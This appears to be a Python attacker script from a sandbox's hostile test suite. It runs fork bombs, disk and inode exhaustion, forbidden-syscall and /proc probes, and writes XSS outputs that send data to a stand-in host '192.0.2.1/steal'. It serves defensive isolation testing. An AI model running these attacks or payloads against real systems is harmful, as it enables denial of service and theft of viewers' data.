"""Attacker agent for labbox's hostile suite: params.json "attack" picks what it tries.

Runs in the sandbox like any operator's agent, standard library only, and reports what
happened as lines "key value" (or "key errno NAME") on stdout, so the tests can check that
each wall held. Attacks:
  fill-disk      write "mb" MiB into /workspace (or "dir") in 1 MiB writes; report "wrote N"
                 and the errno that stopped it; "cope": delete it and exit 0, else exit 1;
                 writes outputs/before.txt first
  fill-inodes    create empty files in /workspace (or "dir") until an error (at most "max")
  deep-tree      a "depth"-deep directory chain in /workspace with "kb" KiB per level
  sockets        socket() for each address family of "families" (names), report errno/ok
  read           read each file of "paths"; report its size or errno
  whoami         report uid, gid and the /workspace owner; hold for "seconds"
  inotify        create inotify instances until refused ("hold" seconds), report the count
  fork-bomb      fork until refused, report the count (children sleep "seconds")
  cpu-burn       "procs" processes spin for "seconds"
  connect        TCP connect to each "targets" [host, port]; report "connect host:port ok|errno"
  abstract       connect to the abstract unix socket "name"
  http           GET "url" and print the body's first line
  argv           report the number of arguments and the last one
  bad-names      write outputs with bidi/invisible characters in their names and one plain
  caps           report the capability sets (CapInh CapPrm CapEff CapBnd CapAmb) of every
                 process the sandbox shows in /proc
  locked-outputs write outputs the collector cannot read without privileges: mode 000 files,
                 a mode 000 directory, a sticky world-writable directory; then sleep "seconds"
  print          print "lines" lines of "width" characters to stdout, as fast as it can
  write-output   after "seconds", write an output of "mb" MiB (outputs/big.bin)
  denied         call system calls the sandbox denies (keyctl, bpf, io_uring_setup,
                 perf_event_open, userfaultfd, ptrace) and unshare(CLONE_NEWUSER); report each
                 errno ("keyctl EPERM", "unshare-user EPERM") or "ok"
  find-ids       search every readable /proc/<pid>/{cmdline,environ,mountinfo,cgroup} for each
                 of "needles"; report "found NEEDLE in FILE" or "found none"
"""
import ctypes
import errno
import json
import os
import socket
import sys
import time

inp = os.environ.get("LABBOX_INPUT_DIR", "/workspace/inputs")
out = os.environ.get("LABBOX_OUTPUT_DIR", "/workspace/outputs")
os.makedirs(out, exist_ok=True)
try:
    with open(os.path.join(inp, "params.json")) as f:
        P = json.load(f)
except FileNotFoundError:
    P = {}
attack = P.get("attack", "none")
print(f"attack {attack}", flush=True)


def say(*words):
    print(" ".join(str(w) for w in words), flush=True)


def ename(e):
    return errno.errorcode.get(e.errno, str(e.errno))


def fill_disk():
    with open(os.path.join(out, "before.txt"), "w") as f:
        f.write("written before the disk filled\n")
    path = os.path.join(P.get("dir", "/workspace"), "fill.bin")
    chunk = b"\xa5" * (1 << 20)
    n = 0
    try:
        with open(path, "wb") as f:
            for _ in range(int(P.get("mb", 4096))):
                f.write(chunk)
                n += 1
            f.flush()
            os.fsync(f.fileno())
        say("wrote", n, "stopped none")
    except OSError as e:
        say("wrote", n, "stopped", ename(e))
    st = os.statvfs(os.path.dirname(path))
    say("free", st.f_bavail * st.f_frsize, "inodes", st.f_favail)
    if P.get("cope"):
        os.unlink(path)
        with open(os.path.join(out, "after.txt"), "w") as f:
            f.write("coped\n")
        say("coped")
        return 0
    return 1


def fill_inodes():
    d = os.path.join(P.get("dir", "/workspace"), "many")
    os.makedirs(d, exist_ok=True)
    n = 0
    try:
        for i in range(int(P.get("max", 1000000))):
            os.close(os.open(os.path.join(d, str(i)), os.O_CREAT | os.O_WRONLY, 0o644))
            n += 1
        say("files", n, "stopped none")
    except OSError as e:
        say("files", n, "stopped", ename(e))
    return 1 if P.get("fail", True) else 0


def deep_tree():
    data = b"d" * (int(P.get("kb", 16)) * 1024)
    os.chdir("/workspace")
    for i in range(int(P.get("depth", 100))):
        os.mkdir("d")
        os.chdir("d")
        with open("data", "wb") as f:
            f.write(data)
    say("deep", P.get("depth", 100))
    return 0


def sockets():
    for name in P.get("families", ["AF_UNIX", "AF_INET", "AF_INET6", "AF_VSOCK", "AF_NETLINK", "AF_PACKET"]):
        fam = getattr(socket, name)
        typ = socket.SOCK_RAW if name == "AF_NETLINK" else socket.SOCK_STREAM
        if name == "AF_PACKET":
            typ = socket.SOCK_DGRAM
        try:
            s = socket.socket(fam, typ)
            if name == "AF_VSOCK":
                s.bind((socket.VMADDR_CID_ANY, 4242))
                s.listen(1)
            s.close()
            say("socket", name, "ok")
        except OSError as e:
            say("socket", name, ename(e))
        try:
            a, b = socket.socketpair(fam, socket.SOCK_STREAM)
            a.close()
            b.close()
            say("socketpair", name, "ok")
        except OSError as e:
            say("socketpair", name, ename(e))
    return 0


def read_files():
    for p in P.get("paths", []):
        try:
            with open(p, "rb") as f:
                say("read", p, len(f.read()))
        except OSError as e:
            say("read", p, ename(e))
    return 0


def whoami():
    st = os.stat("/workspace")
    say("uid", os.getuid(), "gid", os.getgid(), "owner", st.st_uid)
    time.sleep(float(P.get("seconds", 0)))
    return 0


def inotify():
    libc = ctypes.CDLL(None, use_errno=True)
    fds = []
    while len(fds) < 100000:
        fd = libc.inotify_init()
        if fd < 0:
            say("inotify", len(fds), "stopped", errno.errorcode.get(ctypes.get_errno(), "?"))
            break
        fds.append(fd)
    else:
        say("inotify", len(fds), "stopped none")
    time.sleep(float(P.get("hold", 0)))
    return 0


def fork_bomb():
    n = 0
    pids = []
    while n < 100000:
        try:
            pid = os.fork()
        except OSError as e:
            say("forks", n, "stopped", ename(e))
            break
        if pid == 0:
            time.sleep(float(P.get("seconds", 3)))
            os._exit(0)
        pids.append(pid)
        n += 1
    for pid in pids:
        os.kill(pid, 9)
    return 0


def cpu_burn():
    end = time.time() + float(P.get("seconds", 2))
    kids = []
    for _ in range(int(P.get("procs", 2)) - 1):
        pid = os.fork()
        if pid == 0:
            while time.time() < end:
                pass
            os._exit(0)
        kids.append(pid)
    while time.time() < end:
        pass
    for pid in kids:
        os.waitpid(pid, 0)
    say("burned")
    return 0


def connect():
    for host, port in P.get("targets", []):
        try:
            socket.create_connection((host, int(port)), timeout=3).close()
            say("connect", f"{host}:{port}", "ok")
        except OSError as e:
            say("connect", f"{host}:{port}", ename(e) if e.errno else type(e).__name__)
    return 0


def abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("\0" + P["name"])
        say("abstract ok")
    except OSError as e:
        say("abstract", ename(e))
    return 0


def http():
    import urllib.request
    try:
        with urllib.request.urlopen(P["url"], timeout=5) as r:
            say("http", r.status, r.read().decode().splitlines()[0])
    except Exception as e:  # noqa: BLE001 - report whatever stopped it
        say("http failed", type(e).__name__, e)
    return 0


def argv():
    say("argc", len(sys.argv), "last", sys.argv[-1])
    return 0


def bad_names():
    names = ["uni-\u202egnp.exe", "zero\u200bwidth.txt", "bom\ufeff.txt", "iso\u2066late\u2069.txt"]
    for n in names:
        with open(os.path.join(out, n), "w") as f:
            f.write("hidden\n")
    with open(os.path.join(out, "plain.txt"), "w") as f:
        f.write("plain\n")
    say("wrote", len(names) + 1)
    return 0


def report():
    """Outputs made to be shown by labbox (?view=1) and turn against the viewer: a report whose
    script would read the page or send the data out, an image URL and a form to another server,
    an SVG with a script, and HTML disguised as a PDF and as text."""
    evil = "http://192.0.2.1/steal?data="
    files = {
        "report.html": "<!doctype html><p id=x>report</p><script>parent.document.title='owned';"
                       "fetch('/api/jobs')</script><img src='" + evil + "img'>"
                       "<form action='" + evil + "form'><input name=q></form>"
                       "<meta http-equiv=refresh content='0;url=" + evil + "refresh'>",
        "chart.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "fake.pdf": "<html><script>alert('pdf')</script></html>",
        "notes.txt": "<html><script>alert('txt')</script></html>",
        "summary.json": '{"report": "report.html"}',
    }
    for name, text in files.items():
        with open(os.path.join(out, name), "w") as f:
            f.write(text)
    say("wrote", len(files))
    return 0


def caps():
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/status") as f:
                sets = [ln.split()[1] for ln in f if ln.startswith("Cap")]
        except OSError:
            continue
        say("caps", pid, *sets)
    return 0


def locked_outputs():
    with open(os.path.join(out, "locked.txt"), "w") as f:
        f.write("mode 000\n")
    os.chmod(os.path.join(out, "locked.txt"), 0)
    d = os.path.join(out, "closed")
    os.mkdir(d)
    with open(os.path.join(d, "inside.txt"), "w") as f:
        f.write("in a mode 000 directory\n")
    os.chmod(d, 0)
    t = os.path.join(out, "sticky")
    os.mkdir(t)
    with open(os.path.join(t, "s.txt"), "w") as f:
        f.write("in a sticky directory\n")
    os.chmod(t, 0o1777)
    os.chmod("/workspace", 0o500)
    say("locked")
    time.sleep(float(P.get("seconds", 0)))
    return 0


def find_ids():
    found = 0
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        for name in ("cmdline", "environ", "mountinfo", "cgroup"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    text = f.read()
            except OSError:
                continue
            for n in P.get("needles", []):
                if n.encode() in text:
                    say("found", n, "in", f"/proc/{pid}/{name}")
                    found += 1
    if not found:
        say("found none")
    return 0


def denied():
    import platform
    nrs = {"x86_64": {"keyctl": 250, "bpf": 321, "io_uring_setup": 425, "perf_event_open": 298,
                      "userfaultfd": 323, "ptrace": 101},
           "aarch64": {"keyctl": 219, "bpf": 280, "io_uring_setup": 425, "perf_event_open": 241,
                       "userfaultfd": 282, "ptrace": 117}}[platform.machine()]
    libc = ctypes.CDLL(None, use_errno=True)
    for name, nr in nrs.items():
        ctypes.set_errno(0)
        r = libc.syscall(ctypes.c_long(nr), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
        e = ctypes.get_errno()
        say(name, errno.errorcode.get(e, str(e)) if r == -1 else "ok")
    ctypes.set_errno(0)
    r = libc.unshare(0x10000000)
    e = ctypes.get_errno()
    say("unshare-user", errno.errorcode.get(e, str(e)) if r == -1 else "ok")
    return 0


def print_lines():
    row = "x" * int(P.get("width", 1000))
    for i in range(int(P.get("lines", 1000))):
        print(i, row)
    sys.stdout.flush()
    say("printed")
    return 0


def write_output():
    time.sleep(float(P.get("seconds", 0)))
    with open(os.path.join(out, "big.bin"), "wb") as f:
        for _ in range(int(P.get("mb", 1))):
            f.write(b"o" * (1 << 20))
    say("wrote output")
    return 0


attacks = {"fill-disk": fill_disk, "fill-inodes": fill_inodes, "deep-tree": deep_tree,
           "sockets": sockets, "read": read_files, "whoami": whoami, "inotify": inotify,
           "fork-bomb": fork_bomb, "cpu-burn": cpu_burn, "connect": connect, "abstract": abstract,
           "http": http, "argv": argv, "bad-names": bad_names, "report": report, "caps": caps,
           "locked-outputs": locked_outputs, "find-ids": find_ids, "print": print_lines,
           "write-output": write_output, "denied": denied}
if attack not in attacks:
    say("unknown attack", attack)
    sys.exit(2)
sys.exit(attacks[attack]())
